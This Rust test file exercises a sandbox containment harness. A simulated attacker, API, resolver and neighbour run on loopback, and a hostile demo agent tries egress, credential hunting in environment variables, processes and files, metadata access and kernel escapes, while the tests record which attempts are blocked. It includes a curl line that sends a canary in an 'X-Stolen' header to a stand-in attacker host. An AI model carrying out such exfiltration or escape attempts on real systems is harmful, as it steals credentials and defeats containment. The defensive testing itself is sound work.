//! The small world and the hostile agent as plain processes on loopback: what the roles answer and write down with a
//! real client (curl), and that the agent calls nothing held that it could not try.

#![allow(clippy::unwrap_used, reason = "the lint spares test functions alone, not what they share")]

use bottle_tests::world::role::line;
use bottle_tests::world::{
    ApiConfig, AttackerConfig, Evidence, Expected, Names, NeighbourConfig, ResolverConfig, World, canary, sha256_hex,
};
use serde::Serialize;
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Child, ChildStdin, ChildStdout, Command, Output, Stdio};

mod world {
    mod upstreams;
}

const LOOPBACK: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// A role as a process; killed when the test ends, however it ends.
struct Role {
    child: Child,
    input: Option<ChildStdin>,
    evidence: BufReader<ChildStdout>,
    listening: BTreeMap<String, Vec<SocketAddr>>,
}

impl Role {
    fn start<C: Serialize>(name: &str, config: &C) -> Self {
        let mut child = Command::new(env!("CARGO_BIN_EXE_demo-world"))
            .arg(name)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut input = child.stdin.take().unwrap();
        input.write_all(line(config).as_bytes()).unwrap();
        let mut evidence = BufReader::new(child.stdout.take().unwrap());
        let mut first = String::new();
        evidence.read_line(&mut first).unwrap();
        let Some(Evidence::Ready { listening }) = Evidence::parse(&first) else { panic!("not ready: {first:?}") };
        Self { child, input: Some(input), evidence, listening }
    }

    fn at(&self, name: &str) -> SocketAddr {
        self.listening[name][0]
    }

    fn next(&mut self) -> Evidence {
        let mut line = String::new();
        self.evidence.read_line(&mut line).unwrap();
        Evidence::parse(&line).unwrap_or_else(|| panic!("no evidence: {line:?}"))
    }

    /// Ends its input; gives what it still wrote and whether it ended well.
    fn end(mut self) -> (Vec<Evidence>, bool) {
        drop(self.input.take());
        let mut rest = String::new();
        self.evidence.read_to_string(&mut rest).unwrap();
        let well = self.child.wait().unwrap().success();
        (rest.lines().filter_map(Evidence::parse).collect(), well)
    }
}

impl Drop for Role {
    fn drop(&mut self) {
        let _ = self.child.kill(); // it may have ended already
        let _ = self.child.wait();
    }
}

struct Api {
    role: Role,
    names: Names,
    ca: tempfile::NamedTempFile,
}

impl Api {
    fn start(credential: &str) -> Self {
        let world = World::mint(&Names::default()).unwrap();
        let expected = Expected { header: "authorization".to_owned(), value: format!("Bearer {credential}") };
        let config = ApiConfig { https_port: 0, http_port: 0, ..world.api_config(LOOPBACK, Some(expected)) };
        let mut ca = tempfile::NamedTempFile::new().unwrap();
        ca.write_all(world.ca_pem.as_bytes()).unwrap();
        Self { role: Role::start("api", &config), names: world.names, ca }
    }

    /// curl over HTTPS to a name of the API.
    fn curl(&self, host: &str, path: &str, more: &[&str]) -> Output {
        let to = format!("{host}:443:{}", self.role.at("https"));
        let ca = self.ca.path().to_str().unwrap();
        let url = format!("https://{host}{path}");
        curl(&[&["--connect-to", &to, "--cacert", ca, "--path-as-is", "--include", &url], more].concat())
    }
}

fn curl(arguments: &[&str]) -> Output {
    // -q: no configuration of this machine's user; --noproxy: no proxy of its environment.
    let fixed = ["-q", "--silent", "--show-error", "--noproxy", "*", "--max-time", "20"];
    Command::new("curl").args(fixed).args(arguments).output().expect("curl must be installed")
}

fn text(output: &Output) -> String {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn the_api_asks_for_its_credential_and_writes_down_what_came() {
    let credential = canary();
    let mut api = Api::start(&credential);
    let [open, guarded] = [api.names.api[0].clone(), api.names.api[1].clone()];
    let bearer = format!("Authorization: Bearer {credential}");

    assert!(text(&api.curl(&open, "/public/a?b=c", &[])).starts_with("HTTP/1.1 200"));
    let Evidence::Request { host, path, sni, authorization, .. } = api.role.next() else { panic!("no request") };
    assert_eq!((host, path, sni), (open.clone(), "/public/a?b=c".to_owned(), Some(open)));
    assert_eq!(authorization, None);

    for (more, status) in [
        (vec![], "401"),
        (vec!["-H", "Authorization: Bearer another"], "401"),
        (vec!["-H", bearer.as_str(), "-d", "the body"], "200"),
    ] {
        let answer = text(&api.curl(&guarded, "/v1/echo", &more));
        assert!(answer.starts_with(&format!("HTTP/1.1 {status}")), "{answer}");
        assert!(answer.to_ascii_lowercase().contains("x-world: api"));
        assert_eq!(answer.contains("the body"), status == "200");
        let seen = api.role.next();
        assert_eq!(seen.contains(&credential), status == "200");
    }
    let (rest, well) = api.role.end();
    assert!(rest.is_empty() && well);
}

#[test]
fn the_api_streams_leaks_and_redirects() {
    let credential = canary();
    let api = Api::start(&credential);
    let host = api.names.api[1].clone();
    let bearer = format!("Authorization: Bearer {credential}");
    let ask = |path: &str, more: &[&str]| text(&api.curl(&host, path, &[&["-H", bearer.as_str()], more].concat()));

    let stream = ask("/v1/stream", &["--no-buffer"]);
    assert!(stream.contains("text/event-stream") && stream.matches("data: ").count() == 5, "{stream}");
    let leak = ask("/v1/leak", &[]);
    assert!(leak.matches(&credential).count() >= 3, "plain, bare and in a header: {leak}");
    assert!(leak.contains("x-leak-base64"));
    assert!(ask("/redirect?to=https://attacker.world.example/x", &[]).contains("https://attacker.world.example/x"));
    assert!(ask("/v1/messages", &["-d", "{}"]).contains("\"role\":\"assistant\""));
    assert!(ask("/v1/messages", &[]).starts_with("HTTP/1.1 404"), "a GET is no message");
    assert!(ask("/v1/slow?ms=1", &[]).contains("\"slept_ms\":1"));
    let big = ask("/big?n=100000", &[]);
    assert_eq!(big.rsplit("\r\n\r\n").next().unwrap().len(), 100_000);
    assert!(ask("/nowhere", &[]).starts_with("HTTP/1.1 404"));

    let plain = text(&curl(&["-H", "Host: any.example", &format!("http://{}/public/x", api.role.at("http"))]));
    assert_eq!(plain, "public: /public/x\n");
}

#[test]
fn a_client_without_the_worlds_ca_does_not_believe_it() {
    let api = Api::start("unused");
    let to = format!("{}:443:{}", api.names.api[0], api.role.at("https"));
    let url = format!("https://{}/public/", api.names.api[0]);
    assert_eq!(curl(&["--connect-to", &to, &url]).status.code(), Some(60));
    assert!(!api.curl("unnamed.example", "/public/", &[]).status.success(), "no certificate for this name");
}

#[test]
fn the_attacker_takes_whatever_comes_and_writes_it_down() {
    let world = World::mint(&Names::default()).unwrap();
    let ports = AttackerConfig { tcp_ports: vec![0], udp_ports: vec![0], ..world.attacker_config(LOOPBACK) };
    let mut attacker = Role::start("attacker", &ports);
    let canary = canary();

    let to = format!("::{}", attacker.at("tcp"));
    let header = format!("X-Stolen: {canary}");
    for (scheme, protocol) in [("http", "tcp"), ("https", "tls")] {
        let url = format!("{scheme}://deep.attacker.world.example/");
        let answer = text(&curl(&["--insecure", "--include", "--connect-to", &to, "-H", &header, &url]));
        assert!(answer.contains("X-World: attacker"), "{answer}");
        assert!(matches!(attacker.next(), Evidence::Opened { .. }));
        let seen = attacker.next();
        assert!(matches!(&seen, Evidence::Received { protocol: p, .. } if p == protocol), "{seen:?}");
        assert!(seen.contains(&canary) && !seen.contains("another"));
    }
    TcpStream::connect(attacker.at("tcp")).unwrap().write_all(b"SSH-2.0-agent\r\n").unwrap();
    assert!(matches!(attacker.next(), Evidence::Opened { .. }));
    assert!(attacker.next().contains("SSH-2.0-agent"));

    let socket = UdpSocket::bind((LOOPBACK, 0)).unwrap();
    socket.send_to(canary.as_bytes(), attacker.at("udp")).unwrap();
    let mut answer = [0_u8; 64];
    assert_eq!(socket.recv(&mut answer).unwrap(), 8, "it answers, so that a hole shows on both sides");
    assert!(attacker.next().contains(&canary));
}

#[test]
fn the_resolver_writes_down_each_name_and_gives_its_one_address() {
    let config = ResolverConfig { port: 0, ..ResolverConfig::new(LOOPBACK, Ipv4Addr::new(198, 18, 0, 7)) };
    let mut resolver = Role::start("resolver", &config);
    let mut query = vec![7, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    query.extend_from_slice(b"\x06secret\x05world\x07example\x00\x00\x01\x00\x01");

    let socket = UdpSocket::bind((LOOPBACK, 0)).unwrap();
    socket.send_to(&query, resolver.at("udp")).unwrap();
    let mut answer = [0_u8; 512];
    let length = socket.recv(&mut answer).unwrap();
    assert!(answer[..length].ends_with(&[198, 18, 0, 7]));

    let mut stream = TcpStream::connect(resolver.at("tcp")).unwrap();
    let framed = [&[0, u8::try_from(query.len()).unwrap()][..], &query].concat();
    stream.write_all(&framed).unwrap();
    let mut head = [0_u8; 4];
    stream.read_exact(&mut head).unwrap();
    assert_eq!(&head[2..], &[7, 9]);

    for expected in ["udp", "tcp"] {
        let Evidence::Asked { name, kind, protocol, .. } = resolver.next() else { panic!("no question") };
        assert_eq!((name.as_str(), kind, protocol.as_str()), ("secret.world.example", 1, expected));
    }
}

#[test]
fn the_neighbour_answers_and_says_who_came() {
    let mut neighbour = Role::start("neighbour", &NeighbourConfig { listen: LOOPBACK, port: 0 });
    let answer = text(&curl(&["--include", &format!("http://{}/x", neighbour.at("http"))]));
    assert!(answer.contains("x-world: neighbour"));
    assert!(matches!(neighbour.next(), Evidence::Opened { .. }));
    assert!(matches!(neighbour.next(), Evidence::Request { path, .. } if path == "/x"));
}

#[test]
fn a_role_without_a_configuration_says_why_and_ends() {
    for (arguments, input, why) in [
        (vec!["api"], "", "could not read the configuration"),
        (vec!["api"], "{\"listen\":\"127.0.0.1\",\"unheard\":1}\n", "could not read the configuration"),
        (vec!["tyrant"], "{}\n", "could not tell the role"),
        (vec![], "{}\n", "could not tell the role"),
    ] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_demo-world"))
            .args(&arguments)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let _ = child.stdin.take().unwrap().write_all(input.as_bytes()); // it may end before it reads
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(output.stdout.is_empty());
        assert!(String::from_utf8_lossy(&output.stderr).contains(why), "{arguments:?}");
    }
}

/// No TCP connection to a multicast address can exist: the kernel itself says so, whatever network there is.
const NOWHERE: &str = "224.0.0.9";

fn agent(chosen: &[&str], more: &[(&str, &str)]) -> (Vec<Value>, Option<i32>) {
    agent_in(Path::new("/"), chosen, more)
}

fn agent_in(directory: &Path, chosen: &[&str], more: &[(&str, &str)]) -> (Vec<Value>, Option<i32>) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_demo-agent"));
    command.current_dir(directory).args(chosen).env_clear().envs([
        ("HTTPS_PROXY", "http://224.0.0.9:8888"),
        ("ALLOWED_HOST", "files.world.example"),
        ("ROUTE_URL", "http://224.0.0.9:9099/api/"),
        ("ROUTE_HOST", "api.world.example"),
        ("GIT_URL", "git://224.0.0.9:9418/app.git"),
        ("GIT_HOST", "forge.world.example"),
        ("ATTACKER_HOST", "attacker.world.example"),
        ("ATTACKER_IP", NOWHERE),
        ("HOST_IPS", NOWHERE),
        ("NEIGHBOUR_IP", NOWHERE),
        ("RESOLVER_IP", NOWHERE),
        ("METADATA_IP", NOWHERE),
        ("SIDECARS", "127.0.0.1:0"),
        ("CANARY_SHA256", &sha256_hex("a credential that is nowhere")),
    ]);
    let output = command.envs(more.iter().copied()).output().unwrap();
    let lines = String::from_utf8(output.stdout).unwrap();
    (lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect(), output.status.code())
}

fn held(lines: &[Value], attempt: &str) -> bool {
    let line = lines.iter().find(|line| line["attempt"] == attempt).unwrap_or_else(|| panic!("no {attempt}"));
    line["held"].as_bool().unwrap()
}

#[test]
fn against_nothing_every_attack_fails_and_so_does_every_control() {
    let (lines, status) = agent(&["egress", "route", "git"], &[]);
    let controls = [
        "allowed-host",
        "route",
        "route-echo",
        "route-leak",
        // Of git-gate also what it must refuse is a control: it must say no itself.
        "git-clone",
        "git-push-clean",
        "git-push-secret",
        "git-push-main",
    ];
    let (end, attempts) = lines.split_last().unwrap();
    for line in attempts {
        let control = controls.iter().any(|name| line["attempt"] == **name);
        assert_eq!(line["held"], !control, "{line}");
        for key in ["tried", "expected", "happened"] {
            assert!(line[key].as_str().is_some_and(|text| !text.is_empty() && text.chars().count() <= 60), "{line}");
        }
    }
    assert_eq!(*end, serde_json::json!({"attempt": "end", "held": false, "count": attempts.len()}));
    assert_eq!(status, Some(1));
}

/// Those whose packets stay on this machine.
const LOCAL: [&str; 4] = ["attacker-direct", "host-direct", "neighbour", "metadata"];

#[test]
fn connects_without_an_answer_have_held_and_answers_have_not() {
    let (lines, status) = agent(&LOCAL, &[]);
    assert!(LOCAL.iter().all(|attempt| held(&lines, attempt)), "{lines:?}");
    assert_eq!(lines.last().unwrap()["count"], 4);
    assert_eq!(status, Some(0), "nothing but what holds was asked for");

    // Nothing listens on these ports of loopback, and yet it answers: with a refusal.
    let own = [("HOST_IPS", "127.0.0.1"), ("ATTACKER_IP", "127.0.0.1"), ("NEIGHBOUR_IP", "127.0.0.1")];
    let (lines, status) = agent(&LOCAL, &own);
    assert!(LOCAL[..3].iter().all(|attempt| !held(&lines, attempt)), "{lines:?}");
    assert!(held(&lines, "metadata"));
    assert_eq!(status, Some(1));
}

#[test]
fn a_datagram_is_told_by_its_listener() {
    let world = World::mint(&Names::default()).unwrap();
    let listen = "127.0.0.77".parse().unwrap();
    let config = AttackerConfig { tcp_ports: Vec::new(), udp_ports: vec![9999], ..world.attacker_config(listen) };
    let mut listener = Role::start("attacker", &config);

    let (lines, _) = agent(&["udp-host"], &[("HOST_IPS", "127.0.0.77")]);
    assert!(!held(&lines, "udp-host"), "it answered: {lines:?}");
    assert!(listener.next().contains("bottle demo-agent udp host to 127.0.0.77"));

    let (lines, _) = agent(&["udp-host"], &[("HOST_IPS", "127.0.0.78")]);
    assert!(held(&lines, "udp-host"));
    assert_eq!(lines[0]["happened"], "1 of 1 sent, see listener");
    let (rest, _) = listener.end();
    assert!(rest.is_empty(), "{rest:?}");
}

#[test]
fn the_hunt_finds_a_credential_in_the_environment_and_in_files_and_not_its_neighbour() {
    let credential = canary();
    let hash = sha256_hex(&credential);
    let hidden = format!("user:{credential}@host");
    let near = format!("user:{credential}x@host");
    let places = ["hunt-environment", "hunt-processes"];
    let (lines, status) = agent(&places, &[("CANARY_SHA256", &hash), ("SETTINGS", &hidden)]);
    assert!(places.iter().all(|place| !held(&lines, place)), "{lines:?}");
    assert_eq!(status, Some(1));
    assert!(lines.iter().all(|line| !line.to_string().contains(&credential)), "it never says what it found");

    let (lines, status) = agent(&places, &[("CANARY_SHA256", &hash), ("SETTINGS", &near)]);
    assert!(places.iter().all(|place| held(&lines, place)), "{lines:?}");
    assert_eq!(status, Some(0));

    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("deep").join("settings.json");
    std::fs::create_dir(file.parent().unwrap()).unwrap();
    std::fs::write(&file, format!("{{\"auth\":\"{hidden}\"}}")).unwrap();
    let (lines, _) = agent_in(directory.path(), &["hunt-files"], &[("CANARY_SHA256", &hash)]);
    assert!(lines[0]["happened"].as_str().unwrap().ends_with("deep/settings.json"), "{lines:?}");
}

#[test]
fn outside_a_bottle_the_kernel_is_left_alone() {
    let (lines, status) = agent(&["kernel"], &[]);
    for attempt in ["init-kill", "mount", "init-overwrite", "hosts-file", "namespaces"] {
        let line = lines.iter().find(|line| line["attempt"] == attempt).unwrap();
        assert_eq!(line["happened"], "not tried: this is no bottle");
        assert_eq!(line["held"], false, "what was not tried has not held");
    }
    assert_eq!(status, Some(1));
}

#[test]
fn what_the_agent_must_know_is_named_when_it_is_missing() {
    let output = Command::new(env!("CARGO_BIN_EXE_demo-agent")).env_clear().output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    let errors = String::from_utf8(output.stderr).unwrap();
    for name in ["HTTPS_PROXY", "ROUTE_URL", "HOST_IPS", "CANARY_SHA256"] {
        assert!(errors.contains(name), "{errors}");
    }
    let output = Command::new(env!("CARGO_BIN_EXE_demo-agent")).arg("theft").output().unwrap();
    assert_eq!(output.status.code(), Some(2));
}
